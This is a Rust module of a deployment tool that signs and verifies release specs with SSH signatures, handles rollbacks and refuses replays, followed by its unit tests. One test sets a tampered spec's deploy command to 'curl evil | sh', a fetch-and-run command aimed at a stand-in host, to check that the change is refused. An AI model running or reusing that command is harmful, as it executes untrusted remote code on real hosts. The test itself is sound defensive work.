//! Signed releases: SSH signatures (SSHSIG, the format of `ssh-keygen -Y sign`) over a canonical
//! form of a release spec, and their verification against an OpenSSH `allowed_signers` file.
//! ZooKeeper is untrusted storage here: an agent that requires signatures runs only what a
//! trusted key signed (docs/security.md). The cryptography is the RustCrypto `ssh-key` crate's.
//!
//! The signed message (the *payload*) is compact JSON with sorted keys, so any tool can rebuild
//! it from the spec as stored (docs/security.md shows it with `jq`/Python):
//!
//! ```text
//! {"expires_at":<unix s>,"format":"deployctl-release-v1","release":<id>,"spec":<content>}
//! ```
//!
//! `content` is the spec's JSON without its bookkeeping (`release`, `previous`,
//! `previous_version`, `rollback_of`, `published_by`, `published_at`, `state`, `signature`,
//! `freeze`, `freeze_override`),
//! secret var values replaced by `sha256:<hex>` of the value. Everything else — every command,
//! var, gate, target, timeout — is covered, including fields added later: the content is the
//! spec minus a fixed list, not a list of covered fields.

use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde::{Deserialize, Serialize};
use sha2::Digest;
use ssh_key::{HashAlg, LineEnding, PrivateKey, PublicKey, SshSig};

use crate::error::{Error, Result};
use crate::model::{Approval, ReleaseSpec, Signature};

/// SSHSIG namespace of release signatures (`ssh-keygen -Y verify -n deployctl-release`).
pub const RELEASE_NAMESPACE: &str = "deployctl-release";
/// SSHSIG namespace of approvals (signed promotes, `--approvals`).
pub const APPROVAL_NAMESPACE: &str = "deployctl-approval";
/// The payload's `format`: a new payload layout gets a new name, never a silent change.
pub const PAYLOAD_FORMAT: &str = "deployctl-release-v1";
/// `--sign-ttl` when not given.
pub const DEFAULT_TTL: Duration = Duration::from_secs(24 * 3600);

/// Spec fields outside the signature: bookkeeping that publishing, rollback and controls change.
const UNSIGNED_FIELDS: [&str; 10] = [
    "release",
    "previous",
    "previous_version",
    "rollback_of",
    "published_by",
    "published_at",
    "state",
    "signature",
    // A freeze is an operator's brake, not code: whoever can write ZooKeeper can lift it anyway.
    "freeze",
    "freeze_override",
];

fn unix(t: SystemTime) -> u64 {
    t.duration_since(UNIX_EPOCH).map_or(0, |d| d.as_secs())
}

/// `sha256:<hex>` of a secret value: the payload covers it without carrying it.
pub fn secret_digest(value: &str) -> String {
    format!("sha256:{}", hex(&sha2::Sha256::digest(value.as_bytes())))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The signed content of a spec (see the module docs).
fn content(spec: &ReleaseSpec) -> serde_json::Value {
    let mut spec = spec.clone();
    for name in &spec.secret_vars {
        if let Some(v) = spec.vars.get_mut(name) {
            *v = secret_digest(v);
        }
    }
    content_of_digested(&spec)
}

/// `content` of a spec whose secret values are digests already (one parsed from a payload).
fn content_of_digested(spec: &ReleaseSpec) -> serde_json::Value {
    let mut v = serde_json::to_value(spec).unwrap_or_default();
    if let Some(map) = v.as_object_mut() {
        for f in UNSIGNED_FIELDS {
            map.remove(f);
        }
    }
    v
}

/// The canonical bytes signed for `spec` as release `release`, valid until `expires_at`.
pub fn payload(spec: &ReleaseSpec, release: u64, expires_at: u64) -> Vec<u8> {
    payload_of(content(spec), release, expires_at)
}

fn payload_of(content: serde_json::Value, release: u64, expires_at: u64) -> Vec<u8> {
    let doc = serde_json::json!({
        "expires_at": expires_at,
        "format": PAYLOAD_FORMAT,
        "release": release,
        "spec": content,
    });
    let mut out = String::new();
    canonical(&doc, &mut out);
    out.into_bytes()
}

/// Compact JSON with every object's keys sorted (whatever order serde_json's map keeps).
fn canonical(v: &serde_json::Value, out: &mut String) {
    match v {
        serde_json::Value::Object(map) => {
            let mut keys: Vec<&String> = map.keys().collect();
            keys.sort();
            out.push('{');
            for (i, k) in keys.into_iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                out.push_str(&serde_json::Value::String(k.clone()).to_string());
                out.push(':');
                canonical(&map[k], out);
            }
            out.push('}');
        }
        serde_json::Value::Array(items) => {
            out.push('[');
            for (i, item) in items.iter().enumerate() {
                if i > 0 {
                    out.push(',');
                }
                canonical(item, out);
            }
            out.push(']');
        }
        scalar => out.push_str(&scalar.to_string()),
    }
}

// ---------------------------------------------------------------------------------------------
// signing

/// A private key that signs releases (`publish --sign-key`).
pub struct Signer {
    key: PrivateKey,
    ttl: Duration,
}

impl std::fmt::Debug for Signer {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Signer")
            .field("key", &self.fingerprint())
            .field("ttl", &self.ttl)
            .finish()
    }
}

impl Signer {
    /// Load an unencrypted OpenSSH private key (`ssh-keygen -t ed25519 -N ''`).
    pub fn load(path: &Path, ttl: Duration) -> Result<Self> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| Error::io(format!("reading signing key {}", path.display()), e))?;
        let key = PrivateKey::from_openssh(text.trim()).map_err(|e| {
            Error::invalid(
                "signing key",
                path.display(),
                format!("not an OpenSSH private key: {e}"),
            )
        })?;
        if key.is_encrypted() {
            return Err(Error::invalid(
                "signing key",
                path.display(),
                "is passphrase-protected; give deployctl an unencrypted key (CI secret file)",
            ));
        }
        if ttl.is_zero() {
            return Err(Error::invalid("--sign-ttl", "0s", "must be more than zero"));
        }
        Ok(Signer { key, ttl })
    }

    pub fn fingerprint(&self) -> String {
        self.key.fingerprint(HashAlg::Sha256).to_string()
    }

    fn sign_bytes(&self, namespace: &str, msg: &[u8]) -> Result<String> {
        let sig = self
            .key
            .sign(namespace, HashAlg::Sha512, msg)
            .map_err(|e| Error::Usage(format!("signing with {}: {e}", self.fingerprint())))?;
        sig.to_pem(LineEnding::LF)
            .map_err(|e| Error::Usage(format!("encoding the signature: {e}")))
    }

    /// Sign `spec` as it will be stored (its release id set), valid for the TTL from `now`.
    pub fn sign(&self, spec: &mut ReleaseSpec, now: SystemTime) -> Result<()> {
        let expires_at = unix(now).saturating_add(self.ttl.as_secs().max(1));
        let msg = payload(spec, spec.release, expires_at);
        spec.signature = Some(Signature {
            release: spec.release,
            expires_at,
            key: self.fingerprint(),
            sshsig: self.sign_bytes(RELEASE_NAMESPACE, &msg)?,
            payload: None,
        });
        Ok(())
    }

    /// Sign an approval of `app`'s release `release` at gate `step` (a signed promote).
    pub fn approve(&self, app: &str, release: u64, step: usize, by: &str) -> Result<Approval> {
        let msg = approval_payload(app, release, step);
        Ok(Approval {
            step,
            key: self.fingerprint(),
            sshsig: self.sign_bytes(APPROVAL_NAMESPACE, &msg)?,
            by: by.to_string(),
            at: crate::model::now_rfc3339(),
        })
    }
}

/// What an approval signs: this app, this release, this gate.
pub fn approval_payload(app: &str, release: u64, step: usize) -> Vec<u8> {
    let doc = serde_json::json!({
        "app": app,
        "format": "deployctl-approval-v1",
        "release": release,
        "step": step,
    });
    let mut out = String::new();
    canonical(&doc, &mut out);
    out.into_bytes()
}

// ---------------------------------------------------------------------------------------------
// trust

/// One line of an `allowed_signers` file.
#[derive(Debug, Clone)]
struct AllowedSigner {
    principals: Vec<String>,
    /// `namespaces="…"`; empty: any.
    namespaces: Vec<String>,
    key: PublicKey,
}

/// The keys an agent trusts: an OpenSSH `allowed_signers` file (ssh-keygen(1), ALLOWED
/// SIGNERS), the same file `ssh-keygen -Y verify -f` and git read.
#[derive(Debug, Clone, Default)]
pub struct AllowedSigners {
    signers: Vec<AllowedSigner>,
}

impl AllowedSigners {
    pub fn load(path: &Path) -> Result<Self> {
        let text = std::fs::read_to_string(path)
            .map_err(|e| Error::io(format!("reading trusted signers {}", path.display()), e))?;
        Self::parse(&text).map_err(|e| match e {
            Error::Invalid { value, reason, .. } => Error::invalid(
                "trusted signers",
                path.display(),
                format!("{value}: {reason}"),
            ),
            other => other,
        })
    }

    /// Lines: `principals [options] keytype base64 [comment]`. Options deployctl cannot honour
    /// (`cert-authority`, `valid-after`, `valid-before`) are refused rather than ignored: a
    /// trust file must never mean more to deployctl than to ssh-keygen.
    pub fn parse(text: &str) -> Result<Self> {
        let mut signers = Vec::new();
        for (n, raw) in text.lines().enumerate() {
            let line = raw.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let at = || format!("line {}", n + 1);
            let (principals, rest) = split_field(line);
            let rest = rest.trim_start();
            let (options, key_text) = if is_key_type(rest) {
                ("", rest)
            } else {
                let (opts, rest) = split_field(rest);
                (opts, rest.trim_start())
            };
            let mut namespaces = Vec::new();
            for opt in split_options(options) {
                let (name, value) = opt.split_once('=').unwrap_or((opt, ""));
                match name.to_ascii_lowercase().as_str() {
                    "namespaces" => {
                        namespaces = value
                            .trim_matches('"')
                            .split(',')
                            .map(|s| s.trim().to_string())
                            .filter(|s| !s.is_empty())
                            .collect();
                    }
                    "" => {}
                    other => {
                        return Err(Error::invalid(
                            "trusted signers",
                            at(),
                            format!("option {other:?} is not supported by deployctl"),
                        ));
                    }
                }
            }
            let key = PublicKey::from_openssh(key_text)
                .map_err(|e| Error::invalid("trusted signers", at(), format!("bad key: {e}")))?;
            signers.push(AllowedSigner {
                principals: principals.split(',').map(str::to_string).collect(),
                namespaces,
                key,
            });
        }
        if signers.is_empty() {
            return Err(Error::invalid(
                "trusted signers",
                "<file>",
                "lists no key (an empty trust file would refuse every release)",
            ));
        }
        Ok(AllowedSigners { signers })
    }

    /// Check an armored signature over `msg` in `namespace`; returns the signer's principal.
    pub fn verify(&self, namespace: &str, msg: &[u8], armored: &str) -> Result<String, Refusal> {
        let sig = SshSig::from_pem(armored.trim())
            .map_err(|e| Refusal::new(format!("the signature is not an SSH signature: {e}")))?;
        let signer = self
            .signers
            .iter()
            .find(|s| s.key.key_data() == sig.public_key())
            .ok_or_else(|| {
                let fp = PublicKey::from(sig.public_key().clone()).fingerprint(HashAlg::Sha256);
                Refusal::new(format!("signed by {fp}, a key this host does not trust"))
            })?;
        if !signer.namespaces.is_empty() && !signer.namespaces.iter().any(|n| n == namespace) {
            return Err(Refusal::new(format!(
                "the key of {} may not sign {namespace} (namespaces in the trust file)",
                signer.principals.join(",")
            )));
        }
        signer.key.verify(namespace, msg, &sig).map_err(|_| {
            Refusal::new("the signature does not match the release: it was changed after signing")
        })?;
        Ok(signer.principals.join(","))
    }
}

/// The signed promotes of `spec`'s gate `step` that this host can check: signed over that gate
/// of that release by keys in `trust`, each key once — for an approval gate (`approval`), the
/// publisher's own key not counted. Returns the principals of the valid ones.
pub fn verified_approvals(
    trust: &AllowedSigners,
    spec: &ReleaseSpec,
    approvals: &[Approval],
    step: usize,
    approval: bool,
) -> Vec<String> {
    let publisher = spec
        .signature
        .as_ref()
        .and_then(|s| SshSig::from_pem(s.sshsig.trim()).ok())
        .map(|s| s.public_key().clone());
    let msg = approval_payload(&spec.app, spec.release, step);
    let mut keys = Vec::new();
    let mut principals = Vec::new();
    for a in approvals.iter().filter(|a| a.step == step) {
        let Ok(sig) = SshSig::from_pem(a.sshsig.trim()) else {
            continue;
        };
        let key = sig.public_key().clone();
        if (approval && Some(&key) == publisher.as_ref()) || keys.contains(&key) {
            continue;
        }
        if let Ok(who) = trust.verify(APPROVAL_NAMESPACE, &msg, &a.sshsig) {
            keys.push(key);
            principals.push(who);
        }
    }
    principals
}

fn is_key_type(s: &str) -> bool {
    ["ssh-", "ecdsa-", "sk-"].iter().any(|p| s.starts_with(p))
}

/// The first whitespace-separated field, quotes kept together.
fn split_field(s: &str) -> (&str, &str) {
    let mut quoted = false;
    for (i, c) in s.char_indices() {
        match c {
            '"' => quoted = !quoted,
            c if c.is_whitespace() && !quoted => return (&s[..i], &s[i..]),
            _ => {}
        }
    }
    (s, "")
}

fn split_options(s: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let (mut quoted, mut start) = (false, 0);
    for (i, c) in s.char_indices() {
        match c {
            '"' => quoted = !quoted,
            ',' if !quoted => {
                out.push(&s[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&s[start..]);
    out
}

/// Why an agent refuses a release (shown as the host's `refused` status).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal(pub String);

impl Refusal {
    fn new(s: impl Into<String>) -> Self {
        Refusal(s.into())
    }
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.0)
    }
}

/// A release that passed verification.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verified {
    /// The release id the signature names.
    pub signed_release: u64,
    /// `sha256` of the armored signature: what the replay record keeps.
    pub digest: String,
    pub principal: String,
}

/// Verify `spec` (read from `apps/<app>`) for an agent that requires signatures. Pure: no
/// ZooKeeper request, only the spec in hand and the trust file.
pub fn verify_release(
    trust: &AllowedSigners,
    app: &str,
    spec: &ReleaseSpec,
    now: SystemTime,
) -> Result<Verified, Refusal> {
    let Some(sig) = &spec.signature else {
        return Err(Refusal::new("the release is not signed"));
    };
    if spec.app != app {
        return Err(Refusal::new(format!(
            "the spec names app {:?}, not {app:?}",
            spec.app
        )));
    }
    let msg = if sig.release == spec.release && sig.payload.is_none() {
        payload(spec, spec.release, sig.expires_at)
    } else {
        carried_payload(spec, sig)?
    };
    let principal = trust.verify(RELEASE_NAMESPACE, &msg, &sig.sshsig)?;
    if unix(now) >= sig.expires_at {
        return Err(Refusal::new(format!(
            "the signature expired at {} (re-sign: publish or rollback with --sign-key)",
            crate::model::format_time(UNIX_EPOCH + Duration::from_secs(sig.expires_at))
        )));
    }
    Ok(Verified {
        signed_release: sig.release,
        digest: hex(&sha2::Sha256::digest(sig.sshsig.as_bytes())),
        principal,
    })
}

/// The payload of a rollback that republishes an earlier signed release: the carried payload,
/// checked to name that release and to be what the rollback runs (its content with the
/// rollback's own changes: gates dropped, a deploy).
fn carried_payload(spec: &ReleaseSpec, sig: &Signature) -> Result<Vec<u8>, Refusal> {
    let mismatch = || {
        Refusal::new(format!(
            "the signature names release {}, and this spec is no rollback that republishes it",
            sig.release
        ))
    };
    let Some(text) = &sig.payload else {
        return Err(mismatch());
    };
    if spec.rollback_of.is_none() || sig.release >= spec.release {
        return Err(mismatch());
    }
    let doc: serde_json::Value = serde_json::from_str(text)
        .map_err(|e| Refusal::new(format!("the carried payload is not JSON: {e}")))?;
    let signed = || -> Option<(ReleaseSpec, u64, u64)> {
        let spec = serde_json::from_value(doc.get("spec")?.clone()).ok()?;
        Some((
            spec,
            doc.get("release")?.as_u64()?,
            doc.get("expires_at")?.as_u64()?,
        ))
    };
    let Some((original, release, expires_at)) = signed() else {
        return Err(Refusal::new("the carried payload is not a release payload"));
    };
    if release != sig.release || expires_at != sig.expires_at {
        return Err(mismatch());
    }
    let rolled_back = original.as_rollback();
    if content_of_digested(&rolled_back) != content(spec)
        || payload_of(content_of_digested(&original), release, expires_at) != text.as_bytes()
    {
        return Err(Refusal::new(format!(
            "the rollback does not run what release {release} signed"
        )));
    }
    Ok(text.clone().into_bytes())
}

/// A rollback of `spec` keeps its signature, with the payload it needs (see `carried_payload`).
pub fn carry_for_rollback(target: &ReleaseSpec) -> Option<Signature> {
    let sig = target.signature.as_ref()?;
    let payload = match &sig.payload {
        Some(p) => p.clone(),
        None => String::from_utf8(payload(target, sig.release, sig.expires_at)).ok()?,
    };
    Some(Signature {
        payload: Some(payload),
        ..sig.clone()
    })
}

// ---------------------------------------------------------------------------------------------
// replay

/// The signed releases this host ran, per app (kept on disk by the agent).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct RanRecord {
    /// `(signed release id, signature digest)`, newest last.
    pub ran: Vec<(u64, String)>,
}

/// How many entries `RanRecord` keeps.
const RAN_KEPT: usize = 64;

impl RanRecord {
    /// Refuse a replay: a signed release id at or below one this host already ran, with another
    /// signature — unless it is a rollback to a release this host ran with this very signature.
    pub fn check(&self, v: &Verified, rollback: bool) -> Result<(), Refusal> {
        let newest = self.ran.iter().map(|(id, _)| *id).max().unwrap_or(0);
        if v.signed_release > newest {
            return Ok(());
        }
        let ran_this = self
            .ran
            .iter()
            .any(|(id, d)| *id == v.signed_release && *d == v.digest);
        let same_as_newest = v.signed_release == newest && ran_this;
        if same_as_newest || (rollback && ran_this) {
            return Ok(());
        }
        Err(Refusal::new(format!(
            "replayed: this host already ran release {newest}, and release {} {}",
            v.signed_release,
            if ran_this {
                "is older (only a rollback may go back)"
            } else {
                "never ran here with this signature"
            }
        )))
    }

    pub fn note(&mut self, v: &Verified) {
        let entry = (v.signed_release, v.digest.clone());
        if !self.ran.contains(&entry) {
            self.ran.push(entry);
        }
        let excess = self.ran.len().saturating_sub(RAN_KEPT);
        self.ran.drain(..excess);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn key() -> PrivateKey {
        // Deterministic test key (no RNG needed): ed25519 from a fixed seed.
        let kp = ssh_key::private::Ed25519Keypair::from_seed(&[7u8; 32]);
        PrivateKey::from(kp)
    }

    fn signer(ttl: u64) -> Signer {
        Signer {
            key: key(),
            ttl: Duration::from_secs(ttl),
        }
    }

    fn trust() -> AllowedSigners {
        let line = format!(
            "ci@example.com namespaces=\"deployctl-release,deployctl-approval\" {}",
            key().public_key().to_openssh().expect("pub")
        );
        AllowedSigners::parse(&line).expect("trust")
    }

    fn spec() -> ReleaseSpec {
        let mut s = ReleaseSpec::new("web", "2.0");
        s.release = 5;
        s.deploy_cmd = Some("deploy {{ version }}".into());
        s.vars.insert("TOKEN".into(), "hunter2".into());
        s.secret_vars = vec!["TOKEN".into()];
        s
    }

    fn signed() -> ReleaseSpec {
        let mut s = spec();
        signer(3600).sign(&mut s, SystemTime::now()).expect("sign");
        s
    }

    #[test]
    fn a_signed_spec_verifies_and_any_change_is_refused() {
        let s = signed();
        let now = SystemTime::now();
        assert!(verify_release(&trust(), "web", &s, now).is_ok());
        let changes: [fn(&mut ReleaseSpec); 5] = [
            |s| s.deploy_cmd = Some("curl evil | sh".into()),
            |s| s.version = "6.6.6".into(),
            |s| {
                s.vars.insert("TOKEN".into(), "other".into());
            },
            |s| s.hosts = vec!["db-1".into()],
            |s| s.release = 6,
        ];
        for change in changes {
            let mut t = s.clone();
            change(&mut t);
            assert!(verify_release(&trust(), "web", &t, now).is_err(), "{t:?}");
        }
        // Bookkeeping is not signed: a pause or the publish time changes nothing.
        let mut t = s.clone();
        t.state = crate::model::ReleaseState::Paused;
        t.published_at = "x".into();
        assert!(verify_release(&trust(), "web", &t, now).is_ok());
        assert!(verify_release(&trust(), "api", &s, now).is_err());
    }

    #[test]
    fn secrets_are_signed_by_digest_only() {
        let s = signed();
        let p = payload(&s, 5, 1);
        let text = String::from_utf8(p).expect("utf8");
        assert!(!text.contains("hunter2"));
        assert!(text.contains(&secret_digest("hunter2")));
    }

    #[test]
    fn expired_unsigned_and_untrusted_are_refused() {
        let s = signed();
        let later = SystemTime::now() + Duration::from_secs(3601);
        let e = verify_release(&trust(), "web", &s, later).unwrap_err();
        assert!(e.0.contains("expired"), "{e}");
        assert!(verify_release(&trust(), "web", &spec(), SystemTime::now()).is_err());
        let other = PrivateKey::from(ssh_key::private::Ed25519Keypair::from_seed(&[9u8; 32]));
        let line = format!("x {}", other.public_key().to_openssh().expect("pub"));
        let stranger = AllowedSigners::parse(&line).expect("trust");
        let e = verify_release(&stranger, "web", &s, SystemTime::now()).unwrap_err();
        assert!(e.0.contains("does not trust"), "{e}");
    }

    #[test]
    fn a_rollback_carries_the_signature_of_what_it_republishes() {
        let mut target = spec();
        target.steps = crate::model::Step::parse_list("1,pause,100%").expect("steps");
        signer(3600)
            .sign(&mut target, SystemTime::now())
            .expect("sign");
        let mut cur = spec();
        cur.release = 6;
        cur.version = "3.0".into();
        let rb = crate::policy::rollback_spec(&cur, &target, 7, "ci", "now");
        assert!(verify_release(&trust(), "web", &rb, SystemTime::now()).is_ok());
        // A "rollback" whose content differs from what was signed is refused.
        let mut bad = rb.clone();
        bad.deploy_cmd = Some("evil".into());
        assert!(verify_release(&trust(), "web", &bad, SystemTime::now()).is_err());
        // Without rollback_of the carried payload is refused.
        let mut bad = rb;
        bad.rollback_of = None;
        assert!(verify_release(&trust(), "web", &bad, SystemTime::now()).is_err());
    }

    #[test]
    fn replays_are_refused_rollbacks_to_what_ran_are_not() {
        let v = |id: u64, d: &str| Verified {
            signed_release: id,
            digest: d.into(),
            principal: "p".into(),
        };
        let mut rec = RanRecord::default();
        rec.note(&v(5, "a"));
        rec.note(&v(6, "b"));
        assert!(rec.check(&v(7, "c"), false).is_ok());
        assert!(
            rec.check(&v(6, "b"), false).is_ok(),
            "the same release again"
        );
        assert!(rec.check(&v(6, "x"), false).is_err(), "re-signed replay");
        assert!(rec.check(&v(5, "a"), false).is_err(), "old release as new");
        assert!(rec.check(&v(5, "a"), true).is_ok(), "rollback to what ran");
        assert!(
            rec.check(&v(4, "z"), true).is_err(),
            "rollback to what never ran"
        );
    }

    #[test]
    fn allowed_signers_lines_parse_and_unsupported_options_are_refused() {
        let k = key().public_key().to_openssh().expect("pub");
        assert!(AllowedSigners::parse(&format!("# c\n\na@b,c@d {k} comment")).is_ok());
        let e = AllowedSigners::parse(&format!("a@b cert-authority {k}")).unwrap_err();
        assert!(e.to_string().contains("cert-authority"), "{e}");
        assert!(AllowedSigners::parse(&format!("a@b valid-before=\"20300101\" {k}")).is_err());
        assert!(AllowedSigners::parse("").is_err());
        assert!(AllowedSigners::parse("a@b ssh-ed25519 AAAAnotakey").is_err());
        // A key limited to approvals may not sign releases.
        let t = AllowedSigners::parse(&format!("a@b namespaces=\"deployctl-approval\" {k}"))
            .expect("trust");
        let e = verify_release(&t, "web", &signed(), SystemTime::now()).unwrap_err();
        assert!(e.0.contains("may not sign"), "{e}");
    }

    #[test]
    fn canonical_json_sorts_keys_at_every_depth() {
        let v = serde_json::json!({"b": 1, "a": {"d": [2, {"z": 1, "y": "é\n"}], "c": null}});
        let mut out = String::new();
        canonical(&v, &mut out);
        assert_eq!(out, r#"{"a":{"c":null,"d":[2,{"y":"é\n","z":1}]},"b":1}"#);
    }
}
